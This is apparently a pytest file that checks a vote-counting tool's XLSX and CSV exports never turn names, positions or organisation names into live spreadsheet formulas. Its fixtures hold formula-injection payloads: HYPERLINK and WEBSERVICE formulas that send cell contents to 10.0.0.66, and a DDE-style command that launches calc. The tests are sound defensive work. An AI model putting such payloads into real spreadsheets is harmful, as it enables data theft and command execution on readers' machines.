"""Official spreadsheets never run what a name contains.

A person's name, position or unit (and an organisation's name) that starts like a formula
goes through `counter tally --xlsx --csv` and `counter consolidate --xlsx`; the files are
read back: no XLSX cell is a formula and every text shows exactly as typed; every CSV field
that a spreadsheet would run carries the OWASP leading apostrophe, and removing one leading
apostrophe gives the text back (docs/formats.md).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from counter.cli import main
from counter.documents.consolidated import SHEET_TABLE
from counter.documents.csv_table import spreadsheet_safe
from counter.documents.xlsx import SHEET_RESULTS, TABLE_TOP
from tests.counter_support import counter_home
from tests.documents_support import KnownBox, known_box

HYPERLINK = '=HYPERLINK("http://10.0.0.66/?x="&A1,"Bấm vào đây")'
PERSONS = [
    {"name": HYPERLINK, "position": "+84 912 345 678", "unit": "@SUM(1+1)*cmd|' /C calc'!A0"},
    {"name": "-2+3", "position": "=1+1", "unit": "Sở Nội vụ"},
    {"name": "Nguyễn Văn Sơn", "position": "'=quoted", "unit": "#N/A"},
]
MARKS = [[0, 1, 2], [2, 2, 0], [1, 1, 1]]
ORGANIZATION = "=WEBSERVICE(\"http://10.0.0.66/\"&A2)"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def election(tmp_path_factory: pytest.TempPathFactory) -> KnownBox:
    return known_box(tmp_path_factory.mktemp("formulas"), PERSONS, MARKS, organization=ORGANIZATION)


def run(tmp_path: Path, *argv: str) -> int:
    return main(["--home", str(counter_home(tmp_path / "home")), *argv])


def tally(tmp_path: Path, election: KnownBox, *outputs: str) -> Path:
    box = tmp_path / "hom-phieu.json"
    box.write_bytes(election.box)
    shares = []
    for card in election.cards[:2]:
        path = tmp_path / f"manh-{card.index}.json"
        path.write_text(card.to_json(), "utf-8")
        shares += ["--share", str(path)]
    results = tmp_path / "ket-qua.json"
    assert run(tmp_path, "tally", str(box), *shares, "--json", str(results), *outputs) == 0
    return results


def every_cell(path: Path) -> list[Any]:
    workbook = openpyxl.load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(path: Path) -> list[Any]:
    cells = every_cell(path)
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == []
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    return cells


def test_tally_xlsx_shows_formula_like_names_as_text_never_as_formulas(
        tmp_path: Path, election: KnownBox) -> None:
    xlsx = tmp_path / "bao-cao.xlsx"
    tally(tmp_path, election, "--xlsx", str(xlsx))
    cells = assert_no_formula(xlsx)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert HYPERLINK in texts and "-2+3" in texts and "#N/A" not in texts  # unit joins position
    sheet = openpyxl.load_workbook(xlsx)[SHEET_RESULTS]
    for offset, person in enumerate(PERSONS):
        name = sheet.cell(row=TABLE_TOP + 3 + offset, column=2)
        assert (name.value, name.data_type) == (person["name"], "s")
    assert any(isinstance(v, str) and v.startswith(ORGANIZATION) for v in texts)  # the facts sheet


def test_tally_csv_escapes_every_field_a_spreadsheet_would_run_and_nothing_else(
        tmp_path: Path, election: KnownBox) -> None:
    out = tmp_path / "bao-cao.csv"
    tally(tmp_path, election, "--csv", str(out))
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    fields = [field for row in rows for field in row]
    assert not [f for f in fields if f.startswith(FORMULA_STARTS)]
    for row, person in zip(rows[1:], PERSONS, strict=True):
        assert row[1:4] == [spreadsheet_safe(person[k]) for k in ("name", "position", "unit")]
        # A program gets the text back by removing one leading apostrophe.
        assert [f[1:] if f.startswith("'") else f for f in row[1:4]] == \
            [person[k] for k in ("name", "position", "unit")]
    assert rows[3][1] == "Nguyễn Văn Sơn" and rows[3][2] == "''=quoted"
    assert rows[1][5:7] == ["1", "33.33"]  # figures untouched


def test_consolidated_xlsx_shows_formula_like_names_and_organisations_as_text(
        tmp_path: Path, election: KnownBox) -> None:
    results = tally(tmp_path, election)
    key = json.loads(results.read_text("utf-8"))["signature"]["public_key"]
    xlsx = tmp_path / "tong-hop.xlsx"
    assert run(tmp_path, "consolidate", str(results), "--xlsx", str(xlsx), "--counter-key", key,
               "--organization", "+Sở Nội vụ") == 0
    cells = assert_no_formula(xlsx)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert HYPERLINK in texts and ORGANIZATION in texts
    sheet = openpyxl.load_workbook(xlsx)[SHEET_TABLE]
    names = {sheet.cell(row=row, column=2).value for row in range(1, sheet.max_row + 1)}
    assert {p["name"] for p in PERSONS} <= names
